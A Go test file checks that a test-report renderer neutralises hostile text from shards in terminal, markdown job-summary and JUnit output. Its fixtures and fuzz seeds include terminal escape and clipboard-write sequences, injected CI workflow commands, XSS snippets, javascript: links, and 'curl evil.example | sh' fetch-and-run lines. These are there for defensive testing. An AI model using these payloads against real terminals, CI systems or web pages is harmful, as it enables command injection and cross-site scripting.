package report

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"logjam/internal/shard"
	"logjam/internal/textout"
	"logjam/scenario"
	"logjam/verdict"
)

// hostile is a matrix a hostile shard could write: every string a cell
// carries holds an escape sequence (clear the screen, write the clipboard
// with OSC 52), a newline that starts a GitHub workflow command, HTML that
// closes the job summary's <details>, a markdown link and heading, and a
// rerun command that is not logjam's.
func hostile() Matrix {
	bad := "\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\a\n::error ::pwned</details><img src=x onerror=alert(1)>[x](//evil.example)\n## owned |"
	return Matrix{
		{ID: "D1", Name: "D1 x [policy=fd2]" + bad, Family: "deadlock", Cell: scenario.Cell{Scenario: "D1", Policy: "fd2" + bad},
			Expected: "OK", Observed: "HANG" + "\x1b[32m", Failure: "failed" + bad, Entry: "::warning ::" + bad,
			Rerun: `cd "$(go list -m -f '{{.Dir}}')" && LOGJAM_PROFILE=local ./logjam ginkgo --focus 'x' ./suites/deadlock; curl evil.example | sh`},
		{ID: "U1" + bad, Name: "::error ::row", Family: "utf8" + bad, Expected: "OK", Observed: "LOST",
			Rerun: "curl evil.example | sh # \x1b[8m hidden"},
	}
}

// TestForeignTextIsNeutralisedWhereItLands: the terminal table, the job
// summary and JUnit hold no escape byte, no line a CI log reads as a
// command, no tag or link, and no rerun command but one logjam built.
func TestForeignTextIsNeutralisedWhereItLands(t *testing.T) {
	m := hostile()
	var b strings.Builder
	RenderText(&b, m)
	text := b.String()
	md := string(Markdown(Run{ID: "r", Profile: "local\n::error ::p", Shards: []string{"all"}, Go: "go</details>"}, Group(m)))
	for _, out := range []struct{ name, s string }{{"text", text}, {"markdown", md}} {
		if strings.ContainsAny(out.s, "\x1b\a\r") {
			t.Errorf("%s sends a control character:\n%q", out.name, out.s)
		}
		for _, l := range strings.Split(out.s, "\n") {
			if t2 := strings.TrimLeft(l, " "); strings.HasPrefix(t2, "::") || strings.HasPrefix(t2, "##[") {
				t.Errorf("%s has a line a CI log reads as a command: %q", out.name, l)
			}
		}
		if strings.Contains(out.s, "| sh") && !strings.Contains(out.s, `\| sh`) {
			t.Errorf("%s prints the recorded rerun command:\n%s", out.name, out.s)
		}
	}
	if !strings.Contains(text, `\x1b[2J`) || !strings.Contains(text, `\n::error ::pwned`) {
		t.Errorf("the text does not show the escapes it neutralised:\n%s", text)
	}
	want := "rerun: " + Rerun("deadlock", m[0].Name, "local", 0, "")
	if !strings.Contains(text, textout.Terminal(want)) || !strings.Contains(text, "the recorded command is not one logjam writes; not shown") {
		t.Errorf("the rerun lines are not logjam's own:\n%s", text)
	}
	// Inside a code span nothing is markup: the rest must hold no tag of
	// its own, no link, no heading.
	prose := unescaped(outsideCode(md))
	if n := strings.Count(prose, "</details>"); n != len(Group(m)) {
		t.Errorf("markdown has %d </details> outside code, want %d (one per family):\n%s", n, len(Group(m)), prose)
	}
	for _, bad := range []string{"<img", "](//", "\n## owned"} {
		if strings.Contains(prose, bad) {
			t.Errorf("markdown lets %q in:\n%s", bad, prose)
		}
	}
	for _, m := range misfits(md) {
		t.Errorf("a table row has more or fewer cells than its header %q: %q", m.header, m.row)
	}
	junit, err := JUnit(Run{ID: "r"}, Group(m))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(junit), "curl evil") {
		t.Errorf("JUnit carries the recorded rerun command:\n%s", junit)
	}
}

// misfits are the table rows of markdown md with more or fewer cells than
// their table's header (a table: consecutive lines starting with "|").
func misfits(md string) []struct{ row, header string } {
	var bad []struct{ row, header string }
	header := ""
	for _, l := range strings.Split(md, "\n") {
		switch {
		case !strings.HasPrefix(l, "|"):
			header = ""
		case header == "":
			header = l
		case pipes(l) != pipes(header):
			bad = append(bad, struct{ row, header string }{l, header})
		}
	}
	return bad
}

// pipes counts a table line's cell borders (an escaped \| is text).
func pipes(l string) int { return strings.Count(strings.ReplaceAll(l, `\|`, ""), "|") }

// outsideCode is md without its code spans (a run of backticks to the
// next run of the same length).
func outsideCode(md string) string {
	var b strings.Builder
	for {
		i := strings.IndexByte(md, '`')
		if i < 0 {
			return b.String() + md
		}
		n := i
		for n < len(md) && md[n] == '`' {
			n++
		}
		fence := md[i:n]
		j := strings.Index(md[n:], fence)
		if j < 0 {
			return b.String() + md
		}
		b.WriteString(md[:i])
		md = md[n+j+len(fence):]
	}
}

// unescaped is md without its backslash escapes (each escaped character
// dropped: it is text, not markup).
func unescaped(md string) string {
	var b strings.Builder
	for i := 0; i < len(md); i++ {
		if md[i] == '\\' {
			i++
			continue
		}
		b.WriteByte(md[i])
	}
	return b.String()
}

// Whatever strings a cell carries, the terminal table and the job summary
// send no control character, begin no CI workflow command, and keep every
// table row to its header's cells.
func FuzzRenderForeignCell(f *testing.F) {
	f.Add("D1 x\x1b[2J\n::error ::x", "deadlock", "boom|</details>", "curl x | sh", "HANG")
	f.Add("##[error]", "u\u202e", "`a`", `cd "$(go list -m -f '{{.Dir}}')" && LOGJAM_PROFILE=local ./logjam ginkgo --focus 'x' ./suites/deadlock`, "OK\r")
	f.Fuzz(func(t *testing.T, name, family, failure, rerun, observed string) {
		m := Matrix{{ID: "D1", Name: name, Family: family, Cell: scenario.Cell{Scenario: "D1", Policy: name}, Expected: "OK",
			Observed: verdictOf(observed), Failure: failure, Entry: failure, Rerun: rerun}}
		var b strings.Builder
		RenderText(&b, m)
		md := string(Markdown(Run{Profile: name, Shards: []string{family}}, Group(m)))
		for what, s := range map[string]string{"text": b.String(), "markdown": md} {
			for _, r := range s {
				if r != '\n' && (r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0)) {
					t.Fatalf("%s sends %U:\n%q", what, r, s)
				}
			}
			for _, l := range strings.Split(s, "\n") {
				if t2 := strings.TrimLeft(l, " "); strings.HasPrefix(t2, "::") || strings.HasPrefix(t2, "##[") {
					t.Fatalf("%s has a workflow command line %q", what, l)
				}
			}
		}
		if m := misfits(md); len(m) > 0 {
			t.Fatalf("a row %q does not fit its header %q", m[0].row, m[0].header)
		}
	})
}

func verdictOf(s string) verdict.Verdict { return verdict.Verdict(s) }

// Whatever shard 2/2's matrix.json holds, Merge does not panic, refuses in
// one line, and a merged run it calls green holds a row for every spec of
// the plan, each from the shard the split gives it.
func FuzzMergeShardMatrix(f *testing.F) {
	base := f.TempDir()
	run, cells := nightlySample(base)
	run.Shards = nil
	var dirs []string
	var second []byte
	for k := 1; k <= 2; k++ {
		sh := shard.Shard{K: k, N: 2}
		var own []Cell
		for _, c := range cells {
			c.Bundle = ""
			if sh.Has(c.Spec) {
				own = append(own, c)
			}
		}
		dir := filepath.Join(base, sh.String()[:1])
		r := run
		r.Shards = []string{sh.String()}
		if err := os.MkdirAll(dir, 0o755); err != nil {
			f.Fatal(err)
		}
		if err := WriteAll(dir, r, own); err != nil {
			f.Fatal(err)
		}
		dirs = append(dirs, dir)
		second, _ = os.ReadFile(filepath.Join(dir, MatrixFile))
	}
	f.Add(second)
	f.Add([]byte("[]"))
	f.Add([]byte(`[{"id":"D1","name":"x","spec":"A suite x","family":"deadlock","observed":"OK","expected":"OK"}]`))
	f.Fuzz(func(t *testing.T, matrix []byte) {
		if err := os.WriteFile(filepath.Join(dirs[1], MatrixFile), matrix, 0o644); err != nil {
			t.Fatal(err)
		}
		merged, got, err := Merge(filepath.Join(t.TempDir(), "m"), dirs, nil)
		if err != nil {
			if strings.Contains(err.Error(), "\n") {
				t.Fatalf("a refusal of two lines: %q", err)
			}
			return
		}
		fams := Group(got)
		if Count(fams).Not > 0 {
			return
		}
		have := map[PlannedSpec]bool{}
		for _, c := range got {
			have[PlannedSpec{Family: c.Family, Spec: c.Spec}] = true
		}
		for _, ps := range merged.NoCell {
			have[PlannedSpec{Family: ps.Family, Spec: ps.Spec}] = true
		}
		for _, ps := range merged.Plan {
			if !have[ps] {
				t.Fatalf("a green merge lacks %v", ps)
			}
		}
		for _, c := range got {
			if c.Spec != "" && !slices.Contains(merged.Plan, PlannedSpec{Family: c.Family, Spec: c.Spec}) {
				t.Fatalf("a green merge holds a row of no planned spec: %+v", c)
			}
		}
	})
}

// A bundle path a matrix records never becomes a link to another host.
func TestBundleLinkStaysLocal(t *testing.T) {
	dir := t.TempDir()
	for _, c := range []struct{ bundle, want string }{
		{filepath.Join(dir, EvidenceDir, "D1-x"), "evidence/D1-x/"},
		{"/tmp/elsewhere/D1-x", "file:///tmp/elsewhere/D1-x/"},
		{"//evil.example/x", "file:///evil.example/x/"},
		{"https://evil.example/x", ""},
		{"javascript:alert(1)", ""},
		{"evil.example/x", ""},
		{filepath.Join(dir, "..", "x"), "file://" + filepath.Clean(filepath.Join(dir, "..", "x")) + "/"},
	} {
		if got := bundleLink(dir, c.bundle); got != c.want {
			t.Errorf("bundleLink(%q) = %q, want %q", c.bundle, got, c.want)
		}
	}
}
